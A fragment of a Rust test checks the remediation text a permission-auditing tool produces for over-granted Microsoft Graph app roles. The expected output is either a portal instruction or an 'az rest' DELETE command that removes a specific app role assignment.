    // An assignment id that is not Graph's shape reaches no command line.
    assert!(
        by_name("Machine.ReadWrite.All (Role) is granted to the app but not requested by it")["fix"]
            .as_str()
            .unwrap()
            .starts_with("remove the assignment in the portal"),
        "{v}"
    );
    assert_eq!(
        by_name("Machine.Isolate (Role)")["fix"],
        format!(
            "az rest --method DELETE --uri https://graph.microsoft.com/v1.0/servicePrincipals/{principal}/appRoleAssignments/41W1zT6z1U-kJxf62svfp1HFE8pMZhxDun-ThPczmJE"
        ),
        "{v}"
    );
}
